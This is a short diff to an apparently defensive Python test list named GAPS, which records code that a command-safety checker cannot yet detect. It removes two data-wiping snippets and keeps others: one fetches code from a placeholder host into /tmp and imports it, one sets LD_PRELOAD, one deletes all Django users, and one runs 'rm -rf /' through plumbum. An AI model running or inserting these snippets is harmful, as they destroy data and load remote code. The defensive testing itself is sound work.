@@ -267,11 +267,9 @@ DISGUISED = [
 
 #: Known gaps: what runs is decided by a library that is not in the tables, or by the import of a file.
 GAPS = [
-    "from pathlib import Path\n[p.unlink() for p in Path.home().iterdir()]",
     "import sys, requests; open('/tmp/m.py','w').write(requests.get('http://e.example').text); sys.path.insert(0,'/tmp'); import m",  # noqa: E501
     "import os; os.environ.update({'LD_PRELOAD': '/tmp/x.so'})",
     "from django.contrib.auth.models import User; User.objects.all().delete()",
-    "import boto3; boto3.resource('s3').Bucket('b').objects.all().delete()",
     "import os\n@os.system\ndef rm(): pass",
     "from plumbum import local; local['rm']['-rf','/']()",
 ]
